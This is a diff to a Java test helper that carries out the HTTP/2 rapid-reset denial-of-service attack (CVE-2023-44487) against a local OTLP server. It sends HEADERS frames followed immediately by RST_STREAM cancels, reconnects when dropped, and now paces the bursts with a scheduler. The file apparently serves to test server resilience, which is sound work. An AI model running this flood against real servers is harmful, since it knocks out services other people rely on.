@@ -6,14 +6,17 @@ import java.io.OutputStream;
 import java.net.InetSocketAddress;
 import java.net.Socket;
 import java.nio.charset.StandardCharsets;
-import java.util.concurrent.atomic.AtomicBoolean;
+import java.util.concurrent.Executors;
+import java.util.concurrent.ScheduledExecutorService;
+import java.util.concurrent.TimeUnit;
 import java.util.concurrent.atomic.AtomicLong;
 
 /**
  * The HTTP/2 rapid-reset attack (CVE-2023-44487) as raw frames from 127.0.0.2: after the
  * connection preface, HEADERS opening an OTLP export call and an immediate RST_STREAM (CANCEL),
  * again and again on fresh stream ids; when the server closes the connection, reconnect. Paced
- * at {@code burst} streams per 10 ms so the test machine stays usable. One thread per instance.
+ * by a scheduler at {@code burst} streams per 10 ms so the test machine stays usable. One thread
+ * per instance.
  */
 final class RapidReset implements AutoCloseable {
   private static final byte[] PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII);
@@ -21,45 +24,61 @@ final class RapidReset implements AutoCloseable {
 
   private final int port;
   private final int burst;
-  private final AtomicBoolean running = new AtomicBoolean(true);
-  private final Thread thread;
+  private final ScheduledExecutorService pace;
+  /** The current connection and its next stream id; touched only by the pacing thread. */
+  private Socket socket;
+  private int stream;
   final AtomicLong resets = new AtomicLong();
   final AtomicLong connections = new AtomicLong();
 
   RapidReset(int port, int burst, String name) {
     this.port = port;
     this.burst = burst;
-    this.thread = new Thread(this::run, name);
-    thread.setDaemon(true);
-    thread.start();
+    this.pace = Executors.newSingleThreadScheduledExecutor(r -> {
+      Thread t = new Thread(r, name);
+      t.setDaemon(true);
+      return t;
+    });
+    pace.scheduleWithFixedDelay(this::burst, 0, 10, TimeUnit.MILLISECONDS);
   }
 
-  private void run() {
-    while (running.get()) {
-      try (Socket s = new Socket()) {
+  /** One burst on the current connection; a closed connection is replaced at the next tick. */
+  private void burst() {
+    try {
+      if (socket == null) {
+        Socket s = new Socket();
+        socket = s;
         s.bind(new InetSocketAddress(Attacker.FROM, 0));
         s.connect(new InetSocketAddress("127.0.0.1", port), 5_000);
         connections.incrementAndGet();
-        OutputStream out = s.getOutputStream();
-        out.write(PREFACE);
-        out.write(frame(4, 0, 0, new byte[0])); // empty SETTINGS
-        int stream = 1;
-        while (running.get()) {
-          ByteArrayOutputStream batch = new ByteArrayOutputStream();
-          for (int i = 0; i < burst; i++) {
-            batch.write(frame(1, 0x4, stream, headers())); // HEADERS, END_HEADERS
-            batch.write(frame(3, 0, stream, new byte[] {0, 0, 0, 8})); // RST_STREAM CANCEL
-            stream += 2;
-          }
-          out.write(batch.toByteArray());
-          out.flush();
-          resets.addAndGet(burst);
-          Thread.sleep(10);
-        }
-      } catch (IOException e) {
-        // closed by the server: reconnect, as an attacker would
-      } catch (InterruptedException e) {
-        return;
+        s.getOutputStream().write(PREFACE);
+        s.getOutputStream().write(frame(4, 0, 0, new byte[0])); // empty SETTINGS
+        stream = 1;
+      }
+      ByteArrayOutputStream batch = new ByteArrayOutputStream();
+      for (int i = 0; i < burst; i++) {
+        batch.write(frame(1, 0x4, stream, headers())); // HEADERS, END_HEADERS
+        batch.write(frame(3, 0, stream, new byte[] {0, 0, 0, 8})); // RST_STREAM CANCEL
+        stream += 2;
+      }
+      OutputStream out = socket.getOutputStream();
+      out.write(batch.toByteArray());
+      out.flush();
+      resets.addAndGet(burst);
+    } catch (IOException e) {
+      // closed by the server: reconnect at the next tick, as an attacker would
+      closeSocket();
+    }
+  }
+
+  private void closeSocket() {
+    Socket s = socket;
+    socket = null;
+    if (s != null) {
+      try {
+        s.close();
+      } catch (IOException ignored) {
+        // already gone
       }
     }
   }
@@ -106,8 +125,9 @@ final class RapidReset implements AutoCloseable {
 
   @Override
   public void close() throws InterruptedException {
-    running.set(false);
-    thread.interrupt();
-    thread.join(10_000);
+    pace.shutdown();
+    if (pace.awaitTermination(10, TimeUnit.SECONDS)) {
+      closeSocket(); // the pacing thread is done with it
+    }
   }
 }
